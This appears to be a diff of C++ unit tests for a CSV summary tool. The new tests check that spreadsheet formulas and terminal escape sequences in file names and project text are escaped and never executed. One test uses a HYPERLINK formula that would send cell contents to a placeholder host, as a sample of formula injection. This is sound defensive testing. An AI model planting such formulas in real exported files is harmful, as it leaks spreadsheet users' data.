@@ -191,7 +191,18 @@ INSTANTIATE_TEST_SUITE_P(
                     "\"ok, 1 input outside its typical range\",1"},
         FailureCase{"InputsOutsideTheirRanges", initialEnglishWith({{5, "80"}, {18, "60"}}), 0,
                     "English,80.00,0.0,0.0,10.75,"
-                    "\"ok, 2 inputs outside their typical ranges\",2"}),
+                    "\"ok, 2 inputs outside their typical ranges\",2"},
+        // Read as the program has always read them, but said.
+        FailureCase{"DecimalCommaInTheTraffic", initialEnglishWith({{12, "12,900"}}), 0,
+                    "English,9.50,0.1,0.0,7.50,\"ok, 1 input not read as written\",1"},
+        FailureCase{"TextThatIsNoKeyAfterTheProject",
+                    initialEnglishWith({}) + "***Project***\r\nfree text\r\n", 0,
+                    "English,9.50,63.3,38.6,9.50,\"ok, project lines kept unread\",1"},
+        FailureCase{"SecondDesignRunOn",
+                    initialEnglishWith({}) + exampleWith("heavy.DEF", {{31, "ZAN Data End"}}), 0,
+                    "English,9.50,63.3,38.6,9.50,\"ok, project lines kept unread\",1"},
+        FailureCase{"NoUnitMarker", initialEnglishWith({{1, "ENG"}}), 0,
+                    "English,9.50,63.3,38.6,9.50,\"ok, no unit marker\",1"}),
     [](const auto& info) { return std::string(info.param.name); });
 
 // A summary warns about the inputs outside their ranges as the single-file modes do.
@@ -240,6 +251,12 @@ TEST_P(CsvField, IsQuotedOnlyWhenItMustBe) {
     EXPECT_EQ(zan::csvField(GetParam().text), GetParam().field);
 }
 
+class SpreadsheetText : public ::testing::TestWithParam<FieldCase> {};
+
+TEST_P(SpreadsheetText, IsShownAndNeverRun) {
+    EXPECT_EQ(zan::spreadsheetText(GetParam().text), GetParam().field);
+}
+
 INSTANTIATE_TEST_SUITE_P(Rfc4180, CsvField,
                          ::testing::Values(FieldCase{"Empty", "", ""},
                                            FieldCase{"Plain", "designs/a b.DEF", "designs/a b.DEF"},
@@ -251,6 +268,37 @@ INSTANTIATE_TEST_SUITE_P(Rfc4180, CsvField,
                                            FieldCase{"CarriageReturn", "a\rb", "\"a\rb\""},
                                            FieldCase{"Latin1", "\xe9t\xe9.DEF", "\xe9t\xe9.DEF"}),
                          [](const auto& info) { return std::string(info.param.name); });
+
+// Texts that a spreadsheet would run as a formula or that would steer a terminal.
+INSTANTIATE_TEST_SUITE_P(
+    Spreadsheet, SpreadsheetText,
+    ::testing::Values(FieldCase{"Plain", "designs/a b.DEF", "designs/a b.DEF"},
+                      FieldCase{"Formula", "=1+2.DEF", "'=1+2.DEF"}, FieldCase{"Plus", "+1", "'+1"},
+                      FieldCase{"Minus", "-design.DEF", "'-design.DEF"},
+                      FieldCase{"At", "@SUM(A1)", "'@SUM(A1)"}, FieldCase{"Tab", "\tx", "'\tx"},
+                      FieldCase{"CarriageReturn", "\rx", "'\rx"},
+                      FieldCase{"FormulaLaterIsText", "a=1", "a=1"},
+                      FieldCase{"Escape", "\x1b]0;title\x07", "\\x1b]0;title\\x07"},
+                      FieldCase{"Nul", std::string("a\0b", 3), "a\\x00b"},
+                      FieldCase{"LineEndsStay", "a\r\nb", "a\r\nb"}),
+    [](const auto& info) { return std::string(info.param.name); });
+
+TEST_F(Summary, FormulasInAProjectOrAFileNameAreShownNotRun) {
+    const std::string project = "=HYPERLINK(\"http://x/?\"&A1,\"click\")";
+    file("=1+2.DEF", initialEnglishWith({}) + "***Project***\r\nProject: " + project + "\r\n");
+    const Outcome r = run({"--summary", "--", "=1+2.DEF", example("heavy.DEF")}, dir());
+    EXPECT_EQ(r.status, 0) << r.err;
+    EXPECT_EQ(r.out, kHeader + "'=1+2.DEF,English,9.50,63.3,38.6,9.50,ok,\"'" +
+                         zan::csvField(project).substr(1) + ",0\r\n" + example("heavy.DEF") +
+                         ",English,9.50,44.9,28.7,9.25,ok,County Road 12 reconstruction,0\r\n");
+    writeBytes(dir() / "summary.csv", r.out);
+    const std::string rows = "python3 -c \"import csv; print(len(list(csv.reader(open('" +
+                             (dir() / "summary.csv").string() + "', newline='')))))\" > " +
+                             quoted((dir() / "rows").string());
+    if (std::system(rows.c_str()) == 0) {
+        EXPECT_EQ(readBytes(dir() / "rows"), "3\n") << "the header and one row per file";
+    }
+}
 
 TEST_F(Summary, QuotesAPathWithACommaOrAQuote) {
     const std::string design = readBytes(kExamples / "initial-english.DEF");
